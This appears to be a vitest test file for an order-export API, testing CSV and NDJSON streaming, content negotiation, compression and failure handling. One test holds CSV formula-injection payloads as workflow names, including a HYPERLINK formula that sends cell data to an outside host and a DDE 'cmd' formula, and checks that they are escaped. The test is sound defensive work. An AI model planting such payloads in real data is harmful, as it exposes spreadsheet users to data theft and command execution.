import { once } from 'node:events'
import { connect } from 'node:net'
import { setImmediate as nextTurn } from 'node:timers/promises'
import { gunzipSync } from 'node:zlib'
import { parse } from 'csv-parse/sync'
import { afterEach, describe, expect, test, vi } from 'vitest'
import { newId } from '../../src/system.ts'
import { DomainError } from '../../src/domain/errors.ts'
import type { Order } from '../../src/domain/order.ts'
import type { Trail } from '../../src/domain/ports.ts'
import { listen } from '../../src/entrypoints/listen.ts'
import { paths } from '../../src/paths.ts'
import { createApp } from '../support/app.ts'
import { aDefinition, anOrder, RETENTION } from '../support/builders.ts'
import { aFolder, openInstallation } from '../support/installation.ts'
import { recordingLogger } from '../support/logger.ts'

const NOW = new Date('2026-11-20T09:30:00.000Z')
const CSV = 'text/csv'
const NDJSON = 'application/x-ndjson'
const JSON_TYPE = 'application/json'
const VARIES_BY_ACCEPT = /(^|, )Accept(,|$)/
const HEADER =
  'order_id,workflow_id,workflow_name,placed_at,price,quantity,direction,order_type,asset_code,asset_index,asset_type,expires_at'

interface Item {
  order_id: string
  workflow_name: string
  price: number
  asset: { code: string; index: string; asset_type: string | null }
}

/** The trail as a test wants it: `beforePage` is called ahead of each page with its number, from 1. */
const watched = (trail: Trail, beforePage: (page: number) => unknown) => {
  const reads = { pages: 0 }
  const listOrders: Trail['listOrders'] = async (query) => {
    reads.pages += 1
    await beforePage(reads.pages)
    return trail.listOrders(query)
  }
  return { reads, trail: { ...trail, listOrders } }
}

const openApp = async (
  folder: string,
  {
    beforePage = () => undefined,
    latestOrders,
    clock = { now: () => NOW },
  }: {
    beforePage?: (page: number) => unknown
    latestOrders?: (trail: Trail) => Trail['latestOrders']
    clock?: { now: () => Date }
  } = {},
) => {
  const product = await openInstallation(folder)
  const { reads, trail } = watched(product.trail, beforePage)
  const logger = recordingLogger()
  const app = createApp({
    ...product,
    trail: latestOrders ? { ...trail, latestOrders: latestOrders(trail) } : trail,
    clock,
    newId,
    logger,
  })
  const send = async (path: string, headers: Record<string, string> = {}, method = 'GET') =>
    app.request(path, { method, headers })
  /** Records an order that was placed so many minutes ago. */
  const trade = (workflow_id: string, minutes: number, changes: Partial<Order> = {}) =>
    product.trail.recordWorkflowOrder(
      anOrder({
        order_id: newId(),
        workflow_id,
        placed_at: new Date(NOW.getTime() - minutes * 60_000).toISOString(),
        ...changes,
      }),
    )
  /** As many orders as are wanted, 20 minutes apart, newest first: a list of several pages and days. */
  const tradeOften = async (workflow_id: string, count: number): Promise<string[]> => {
    const ids: string[] = []
    for (let index = 0; index < count; index += 1) {
      ids.push((await trade(workflow_id, 10 + index * 20)).order_id)
    }
    return ids
  }
  const items = async (path: string): Promise<Item[]> => {
    const response = await send(path)
    expect(response.status).toBe(200)
    return itemsOf(await response.text())
  }
  return { ...product, app, reads, logger, send, trade, tradeOften, items }
}

const itemsOf = (ndjson: string): Item[] =>
  ndjson
    .split('\n')
    .slice(0, -1)
    .map((line) => JSON.parse(line) as Item)
const idsOf = (items: readonly { order_id: string }[]): string[] =>
  items.map(({ order_id }) => order_id)

const rowsOf = (csv: string): Record<string, string>[] =>
  parse<Record<string, string>>(csv, { columns: true, record_delimiter: '\r\n' })

/** A list item as the row that it should be. */
const asRow = ({ asset, ...item }: Item): Record<string, string> => {
  const { code: asset_code, index: asset_index, asset_type } = asset
  const cells = { ...item, asset_code, asset_index, asset_type: asset_type ?? '' }
  return Object.fromEntries(Object.entries(cells).map(([name, value]) => [name, String(value)]))
}

/** Everything that a server sends on one connection, until it closes it. */
const conversation = async (url: string, path: string, ...headers: string[]): Promise<Buffer> => {
  const socket = connect(Number(new URL(url).port), '127.0.0.1')
  const lines = [`GET ${path} HTTP/1.1`, 'Host: localhost', 'Connection: close', ...headers]
  socket.write(`${lines.join('\r\n')}\r\n\r\n`)
  const chunks: Buffer[] = []
  socket.on('data', (chunk: Buffer) => chunks.push(chunk))
  socket.on('error', () => undefined)
  await once(socket, 'close')
  return Buffer.concat(chunks)
}
const LAST_CHUNK = '\r\n0\r\n\r\n'

const serve = async (app: Parameters<typeof listen>[0]) => {
  const server = await listen(app, { host: '127.0.0.1', port: 0 })
  const stop = () => {
    server.close()
    server.closeAll()
  }
  return { url: server.url, [Symbol.dispose]: stop }
}

/** Whatever would go on by itself has gone on. */
const manyTurns = async () => {
  for (let turn = 0; turn < 100; turn += 1) await nextTurn()
}

afterEach(() => {
  vi.restoreAllMocks()
})

describe('orders as CSV', () => {
  test('are the orders of the JSON, field by field, of all workflows and of one', async () => {
    await using folder = await aFolder()
    await using api = await openApp(folder.path)
    const [one, other] = [newId(), newId()]
    await api.trade(one, 10, { price: 0.1 + 0.2, quantity: 1e-7 })
    await api.trade(other, 20, {
      price: 1e21,
      asset: { code: 'AAPL:xnas', index: 'AAPL:xnas', asset_type: null },
    })
    await api.trade(one, 30, { direction: 'BUY', order_type: 'LIMIT' })
    const { orders } = (await (await api.send(paths.api.orders)).json()) as { orders: Item[] }
    expect(orders).toHaveLength(3)

    const response = await api.send(`${paths.api.orders}.csv`)
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8; header=present')
    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="orders.csv"')
    const text = await response.text()
    expect(rowsOf(text)).toEqual(orders.map(asRow))
    expect(await (await api.send(paths.api.orders, { Accept: CSV })).text()).toBe(text)

    const path = paths.api.workflowOrders(one)
    const history = await api.send(`${path}.csv`)
    expect(history.headers.get('Content-Disposition')).toBe(
      `attachment; filename="orders-${one}.csv"`,
    )
    const ofOne = await history.text()
    expect(rowsOf(ofOne)).toEqual([orders[0], orders[2]].map((item) => asRow(item as Item)))
    expect(await (await api.send(path, { Accept: CSV })).text()).toBe(ofOne)
  })

  test('are UTF-8 lines that end in CRLF, under the names of the columns', async () => {
    await using folder = await aFolder()
    await using api = await openApp(folder.path)
    const id = newId()
    const empty = await (await api.send(`${paths.api.orders}.csv`)).text()
    expect(empty).toBe(`${HEADER}\r\n`)
    const { order_id } = await api.trade(id, 10, { workflow_name: 'Où, "là"' })
    const bytes = Buffer.from(await (await api.send(`${paths.api.orders}.csv`)).arrayBuffer())
    expect(bytes.toString('utf8')).toBe(
      `${HEADER}\r\n${order_id},${id},"Où, ""là""",2026-11-20T09:20:00.000Z,96.25,2,SELL,OPEN_STOP,GER40.I,DAX.I,CfdOnIndex,2026-11-27T09:20:00.000Z\r\n`,
    )
  })

  test('hold every name as it is, except that none is a formula', async () => {
    await using folder = await aFolder()
    await using api = await openApp(folder.path)
    const formulas = [
      '=HYPERLINK("http://example.com/?"&A1,"Click")',
      "=cmd|' /C calc'!A0",
      '+1',
      '-',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1',
      '\r=1',
      '＝1+1',
      '＠SUM(A1)',
    ]
    const names = [
      'quotes " and ""more""',
      '"',
      'a, b; c\td',
      'two\nlines\r\nof it',
      'δοκιμή 試験 👩‍💻 e\u0301 \u2028',
      ' spaces ',
      "'=1",
      'a=b',
      '1e5',
    ]
    for (const [index, workflow_name] of [...formulas, ...names].entries()) {
      await api.trade(newId(), index, { workflow_name })
    }
    const rows = rowsOf(await (await api.send(`${paths.api.orders}.csv`)).text())
    expect(rows.map(({ workflow_name }) => workflow_name)).toEqual([
      ...formulas.map((formula) => `'${formula}`),
      ...names,
    ])
    expect(new Set(rows.map(({ price }) => price))).toEqual(new Set(['96.25']))
    const items = await api.items(`${paths.api.orders}.ndjson`)
    expect(items.map(({ workflow_name }) => workflow_name)).toEqual([...formulas, ...names])
  })
})

describe('orders as NDJSON', () => {
  test('are the orders of the JSON, a line each, of all workflows and of one', async () => {
    await using folder = await aFolder()
    await using api = await openApp(folder.path)
    const [one, other] = [newId(), newId()]
    await api.trade(one, 10)
    await api.trade(other, 20)
    const { orders } = (await (await api.send(paths.api.orders)).json()) as { orders: Item[] }
    const response = await api.send(`${paths.api.orders}.ndjson`)
    expect(response.headers.get('Content-Type')).toBe(NDJSON)
    const text = await response.text()
    expect(text).toBe(orders.map((order) => `${JSON.stringify(order)}\n`).join(''))
    for (const Accept of [NDJSON, 'application/ndjson']) {
      expect(await (await api.send(paths.api.orders, { Accept })).text()).toBe(text)
    }
    const path = paths.api.workflowOrders(other)
    expect(await api.items(`${path}.ndjson`)).toEqual([orders[1]])
    expect(itemsOf(await (await api.send(path, { Accept: NDJSON })).text())).toEqual([orders[1]])
  })
})

describe('the whole list', () => {
  test('has the same filters and the same sequence as its pages', async () => {
    await using folder = await aFolder()
    await using api = await openApp(folder.path)
    const [one, other] = [newId(), newId()]
    const sell = await api.trade(one, 10)
    const buy = await api.trade(one, 20, { direction: 'BUY', order_type: 'LIMIT' })
    const apple = await api.trade(other, 30, {
      asset: { code: 'AAPL:xnas', index: 'AAPL:xnas', asset_type: 'Stock' },
    })
    const filters = [
      '',
      'sort=placed_at',
      'direction=BUY',
      'order_type=OPEN_STOP',
      'instrument=AAPL%3Axnas',
      `ids=${apple.order_id}&ids=${buy.order_id}`,
      `from=${buy.placed_at}&to=${sell.placed_at}`,
      'from=2026-11-20T10%3A15%3A00%2B01%3A00&sort=placed_at',
    ]
    const ofAll = [
      `workflow_id=${one}`,
      `workflow_id=${one}&workflow_id=${other}`,
      'latest=true',
      'latest=true&direction=BUY',
      'latest=true&sort=placed_at',
    ]
    for (const [path, queries] of [
      [paths.api.workflowOrders(one), filters],
      [paths.api.orders, [...filters, ...ofAll]],
    ] as const) {
      for (const query of queries) {
        const page = (await (await api.send(`${path}?${query}`)).json()) as { orders: Item[] }
        const expected = [query, idsOf(page.orders)]
        expect([query, idsOf(await api.items(`${path}.ndjson?${query}`))]).toEqual(expected)
        const csv = await (await api.send(`${path}?${query}`, { Accept: CSV })).text()
        expect([query, rowsOf(csv).map(({ order_id }) => order_id)]).toEqual(expected)
      }
    }
  })

  test.each(['-placed_at', 'placed_at'])(
    'has every order once while others are being placed, by %s',
    async (sort) => {
      await using folder = await aFolder()
      const busy = newId()
      await using api = await openApp(folder.path, {
        beforePage: () => api.trade(busy, 0),
      })
      const placed = await api.tradeOften(newId(), 320)
      const seen = idsOf(await api.items(`${paths.api.orders}.ndjson?sort=${sort}`))
      expect(api.reads.pages).toBeGreaterThan(3)
      expect(new Set(seen).size).toBe(seen.length)
      const known = new Set(placed)
      const inSequence = sort === 'placed_at' ? placed.toReversed() : placed
      expect(seen.filter((order_id) => known.has(order_id))).toEqual(inSequence)
    },
  )

  test('has the orders that had not expired when it was begun, however long it takes', async () => {
    await using folder = await aFolder()
    let now = NOW
    await using api = await openApp(folder.path, {
      clock: { now: () => now },
      beforePage: (page) => {
        if (page === 1) now = new Date(NOW.getTime() + 3_600_000)
      },
    })
    const id = newId()
    const recent = await api.tradeOften(id, 150)
    const { order_id: oldest } = await api.trade(id, RETENTION / 60 - 1)
    for (const path of [paths.api.orders, paths.api.workflowOrders(id)]) {
      now = NOW
      api.reads.pages = 0
      expect(idsOf(await api.items(`${path}.ndjson`))).toEqual([...recent, oldest])
    }
    expect(idsOf(await api.items(`${paths.api.orders}.ndjson`))).toEqual(recent)
  })

  test('has the newest order of every workflow of a trail that is too large for one search', async () => {
    await using folder = await aFolder()
    await using api = await openApp(folder.path, {
      latestOrders: (trail) => async (now) => {
        const { orders } = await trail.latestOrders(now)
        const reached = orders.slice(0, 2)
        return { orders: reached, since: reached.at(-1)?.placed_at ?? null }
      },
    })
    const newest: string[] = []
    for (let index = 0; index < 6; index += 1) {
      const id = newId()
      await api.trade(id, 1000 + index)
      // The second and the third one are of the same moment, at which the search gave up.
      newest.push((await api.trade(id, index === 2 ? 11 : 10 + index)).order_id)
    }
    const path = `${paths.api.orders}.ndjson?latest=true`
    const listed = idsOf(await api.items(path))
    expect(listed.toSorted()).toEqual(newest.toSorted())
    expect(listed.at(-1)).toBe(newest.at(-1))
    expect(idsOf(await api.items(`${path}&sort=placed_at`))).toEqual(listed.toReversed())
  })
})

describe('a long list', () => {
  test('is sent while it is read', async () => {
    await using folder = await aFolder()
    const released = Promise.withResolvers<void>()
    await using api = await openApp(folder.path, {
      beforePage: (page) => (page === 1 ? undefined : released.promise),
    })
    const placed = await api.tradeOften(newId(), 320)
    using server = await serve(api.app)
    const response = await fetch(`${server.url}${paths.api.orders}.csv`, {
      headers: { 'Accept-Encoding': 'identity' },
    })
    expect(response.status).toBe(200)
    const reader = (response.body as ReadableStream<Uint8Array>).getReader()
    const decoder = new TextDecoder()
    let text = ''
    while (text.split('\r\n').length < 102) {
      const { value } = await reader.read()
      text += decoder.decode(value, { stream: true })
    }
    expect(rowsOf(text)).toHaveLength(100)
    released.resolve()
    for (;;) {
      const { done, value } = await reader.read()
      if (done) break
      text += decoder.decode(value, { stream: true })
    }
    expect(rowsOf(text).map(({ order_id }) => order_id)).toEqual(placed)
  })

  test('is read no faster than it is taken, and no further than it is wanted', async () => {
    await using folder = await aFolder()
    await using api = await openApp(folder.path)
    await api.tradeOften(newId(), 320)
    const response = await api.app.request(`${paths.api.orders}.ndjson`)
    const reader = (response.body as ReadableStream<Uint8Array>).getReader()
    for (const pages of [1, 2]) {
      expect((await reader.read()).done).toBe(false)
      await manyTurns()
      expect(api.reads.pages).toBe(pages)
    }
    await reader.cancel()
    await manyTurns()
    expect(api.reads.pages).toBe(2)
  })

  test.each(['identity', 'gzip', 'br'])(
    'is not read on for a client that left, %s',
    async (encoding) => {
      await using folder = await aFolder()
      const asked = Promise.withResolvers<void>()
      const released = Promise.withResolvers<void>()
      await using api = await openApp(folder.path, {
        beforePage: (page) => {
          if (page === 1) return undefined
          asked.resolve()
          return released.promise
        },
      })
      await api.tradeOften(newId(), 320)
      const left = Promise.withResolvers<void>()
      using server = await serve({
        fetch: (request) => {
          request.signal.addEventListener('abort', () => {
            left.resolve()
          })
          return api.app.fetch(request)
        },
      })
      const client = new AbortController()
      const response = await fetch(`${server.url}${paths.api.orders}.csv`, {
        signal: client.signal,
        headers: { 'Accept-Encoding': encoding },
      })
      expect(response.status).toBe(200)
      await asked.promise
      client.abort()
      await left.promise
      released.resolve()
      // Another request goes all the way meanwhile.
      await fetch(`${server.url}${paths.health}`)
      await manyTurns()
      expect(api.reads.pages).toBe(2)
      expect(api.logger.events).toEqual([])
    },
  )

  test.each([
    ['at once', () => undefined, []],
    ['after a while', nextTurn, []],
    ['at once, compressed', () => undefined, ['Accept-Encoding: gzip']],
    ['after a while, compressed', nextTurn, ['Accept-Encoding: br']],
  ])('breaks off when the store fails %s', async (_, pause, headers) => {
    // The adapter prints what breaks a stream.
    vi.spyOn(console, 'error').mockImplementation(() => undefined)
    await using folder = await aFolder()
    await using api = await openApp(folder.path, {
      beforePage: async (page) => {
        if (page === 1) return
        for (let turn = 0; turn < 20; turn += 1) await pause()
        throw new DomainError('store_unavailable', 'no answer', { cause: new Error('10.1.2.3') })
      },
    })
    await api.tradeOften(newId(), 150)
    using server = await serve(api.app)
    const path = `${paths.api.orders}.csv`
    const sent = (await conversation(server.url, path, ...headers)).toString('latin1')
    expect(sent).toMatch(/^HTTP\/1\.1 200 OK\r\n/)
    expect(sent).not.toContain(LAST_CHUNK)
    expect(sent).not.toMatch(/no answer|10\.1\.2\.3/)
    expect(api.logger.events).toEqual([
      expect.objectContaining({
        level: 'error',
        event: 'export.failed',
        path,
        problem: 'no answer',
        cause: '10.1.2.3',
        request_id: expect.any(String),
      }),
    ])
    api.reads.pages = 0
    const response = await fetch(`${server.url}${path}`)
    await expect(response.text()).rejects.toThrow('terminated')
  })

  test('comes to its end, plain and compressed', async () => {
    await using folder = await aFolder()
    await using api = await openApp(folder.path)
    const placed = await api.tradeOften(newId(), 250)
    using server = await serve(api.app)
    for (const path of [`${paths.api.orders}.csv`, `${paths.api.orders}.ndjson`]) {
      const sent = (await conversation(server.url, path)).toString('latin1')
      expect(sent.endsWith(LAST_CHUNK)).toBe(true)
      const plain = await fetch(`${server.url}${path}`, {
        headers: { 'Accept-Encoding': 'identity' },
      })
      expect(plain.headers.get('Content-Encoding')).toBeNull()
      const text = await plain.text()
      expect(text).toContain(placed.at(-1))
      const zipped = await api.app.request(path, { headers: { 'Accept-Encoding': 'gzip' } })
      expect(zipped.headers.get('Content-Encoding')).toBe('gzip')
      expect(zipped.headers.get('Vary')).toContain('Accept-Encoding')
      expect(gunzipSync(await zipped.arrayBuffer()).toString()).toBe(text)
    }
  })

  test('has no tag, as that would take all of it at once', async () => {
    await using folder = await aFolder()
    await using api = await openApp(folder.path)
    await api.tradeOften(newId(), 101)
    const response = await api.app.request(`${paths.api.orders}.csv`)
    expect(response.headers.get('ETag')).toBeNull()
    expect(response.headers.get('Cache-Control')).toBe('private, no-cache')
    expect(response.headers.get('Server-Timing')).toMatch(/desc="\d+ requests"/)
    expect(api.reads.pages).toBe(1)
  })

  test('is not read for HEAD, and the connection stays in step', async () => {
    await using folder = await aFolder()
    await using api = await openApp(folder.path)
    const placed = await api.tradeOften(newId(), 250)
    using server = await serve(api.app)
    const url = `${server.url}${paths.api.orders}.csv`
    const head = await fetch(url, { method: 'HEAD' })
    expect(head.status).toBe(200)
    expect(head.headers.get('Content-Type')).toMatch(/^text\/csv/)
    expect(await head.text()).toBe('')
    expect(api.reads.pages).toBe(1)
    expect(rowsOf(await (await fetch(url)).text())).toHaveLength(placed.length)
  })
})

test('a list of one page has a tag like any other answer, and 304 for it', async () => {
  await using folder = await aFolder()
  await using api = await openApp(folder.path)
  const id = newId()
  await api.tradeOften(id, 100)
  for (const path of [`${paths.api.orders}.csv`, `${paths.api.workflowOrders(id)}.ndjson`]) {
    const tag = (await api.send(path)).headers.get('ETag') ?? ''
    expect(tag).toMatch(/^"[0-9a-f]+"$/)
    const again = await api.send(path, { 'If-None-Match': tag })
    expect(again.status).toBe(304)
    expect((await api.send(path, {}, 'HEAD')).headers.get('ETag')).toBe(tag)
  }
  const json = await api.send(paths.api.orders)
  const csv = await api.send(paths.api.orders, { Accept: CSV })
  expect(csv.headers.get('ETag')).not.toBe(json.headers.get('ETag'))
})

describe('Accept', () => {
  test('chooses the type that is wanted most, JSON among equals', async () => {
    await using folder = await aFolder()
    await using api = await openApp(folder.path)
    const { id } = await api.workflows.create(newId(), aDefinition(), NOW)
    for (const [accept, type] of [
      [undefined, JSON_TYPE],
      ['*/*', JSON_TYPE],
      ['application/*', JSON_TYPE],
      ['text/html, application/xhtml+xml, application/xml;q=0.9, */*;q=0.8', JSON_TYPE],
      ['text/csv', CSV],
      ['Text/CSV;header=present', CSV],
      ['text/*', CSV],
      ['text/csv, application/json', JSON_TYPE],
      ['text/csv, application/json;q=0.9', CSV],
      ['text/csv, */*;q=0.1', CSV],
      ['application/json;q=0.5, text/csv;q=0.4, application/x-ndjson;q=0.6', NDJSON],
      ['application/json;q=0, */*', CSV],
      ['application/*;q=0.2, application/x-ndjson;q=0.1, text/*;q=0.1', JSON_TYPE],
      ['application/ndjson', NDJSON],
    ] as const) {
      for (const path of [paths.api.orders, paths.api.workflowOrders(id)]) {
        const response = await api.send(path, accept === undefined ? {} : { Accept: accept })
        expect([accept, response.headers.get('Content-Type')?.split(';')[0]]).toEqual([
          accept,
          type,
        ])
        expect(response.headers.get('Vary')).toMatch(VARIES_BY_ACCEPT)
      }
    }
  })

  test('that leaves out every type is 406, and told what there is', async () => {
    await using folder = await aFolder()
    await using api = await openApp(folder.path)
    const all = 'application/json or text/csv or application/x-ndjson'
    for (const [path, Accept, types] of [
      [paths.api.orders, 'text/html', all],
      [paths.api.orders, '*/*;q=0', all],
      [`${paths.api.orders}.csv`, 'application/json', 'text/csv'],
      [`${paths.api.orders}.csv`, 'text/csv;q=0, */*', 'text/csv'],
      [`${paths.api.orders}.ndjson`, 'text/csv', 'application/x-ndjson'],
      [paths.api.workflows, 'text/csv', 'application/json'],
      [paths.api.order(newId()), 'application/x-ndjson', 'application/json'],
    ] as const) {
      const response = await api.send(path, { Accept })
      expect(response.status).toBe(406)
      expect(await response.json()).toMatchObject({
        status: 406,
        detail: `expected an Accept header that allows ${types}, got "${Accept}"`,
      })
    }
  })

  test('says nothing at a path with a suffix, which has one type', async () => {
    await using folder = await aFolder()
    await using api = await openApp(folder.path)
    const response = await api.send(`${paths.api.orders}.csv`, { Accept: 'text/html, */*;q=0.1' })
    expect(response.headers.get('Content-Type')).toMatch(/^text\/csv/)
    expect(response.headers.get('Vary') ?? '').not.toMatch(VARIES_BY_ACCEPT)
  })
})

describe('a list as rows is refused', () => {
  test('with a page or a cursor', async () => {
    await using folder = await aFolder()
    await using api = await openApp(folder.path)
    for (const [path, Accept] of [
      [paths.api.orders, CSV],
      [paths.api.orders, NDJSON],
      [`${paths.api.orders}.csv`, CSV],
      [`${paths.api.workflowOrders(newId())}.ndjson`, NDJSON],
      [paths.api.workflowOrders(newId()), CSV],
    ] as const) {
      const response = await api.send(`${path}?page=1&per_page=5&cursor=x`, { Accept })
      expect(response.status).toBe(400)
      expect(await response.json()).toMatchObject({
        errors: [
          {
            field: 'page',
            message: `expected no page: ${Accept} holds the whole list`,
            value: '1',
          },
          { field: 'per_page', value: '5' },
          { field: 'cursor', value: 'x' },
        ],
      })
    }
  })

  test('with a filter that cannot be read', async () => {
    await using folder = await aFolder()
    await using api = await openApp(folder.path)
    for (const query of [
      'direction=UP',
      'from=yesterday',
      'pages=1',
      'direction=BUY&direction=SELL',
    ]) {
      const field = String(query.split('=')[0])
      for (const path of [`${paths.api.orders}.csv`, `${paths.api.workflowOrders(newId())}.csv`]) {
        const response = await api.send(`${path}?${query}`)
        expect(response.status).toBe(400)
        expect(await response.json()).toMatchObject({ errors: [{ field }] })
      }
    }
  })

  test('for a workflow that never was, and is empty for one without orders', async () => {
    await using folder = await aFolder()
    await using api = await openApp(folder.path)
    for (const query of ['', '?direction=BUY']) {
      const response = await api.send(`${paths.api.workflowOrders(newId())}.csv${query}`)
      expect(response.status).toBe(404)
      expect(response.headers.get('Content-Type')).toBe('application/problem+json')
    }
    const { id } = await api.workflows.create(newId(), aDefinition(), NOW)
    const path = paths.api.workflowOrders(id)
    expect(await (await api.send(`${path}.csv`)).text()).toBe(`${HEADER}\r\n`)
    expect(await (await api.send(`${path}.ndjson`)).text()).toBe('')
  })

  test('with 503 when the store is away before anything is sent', async () => {
    await using folder = await aFolder()
    await using api = await openApp(folder.path, {
      beforePage: () => Promise.reject(new DomainError('store_unavailable', 'no answer')),
    })
    for (const [path, Accept] of [
      [`${paths.api.orders}.csv`, '*/*'],
      [paths.api.orders, NDJSON],
      [paths.api.workflowOrders(newId()), CSV],
    ] as const) {
      const response = await api.send(path, { Accept })
      expect(response.status).toBe(503)
      expect(response.headers.get('Retry-After')).toBe('5')
      expect(await response.json()).toMatchObject({ status: 503, instance: path })
    }
    expect(api.logger.events.map(({ event }) => event)).toEqual(
      Array.from({ length: 3 }, () => 'request.failed'),
    )
  })
})
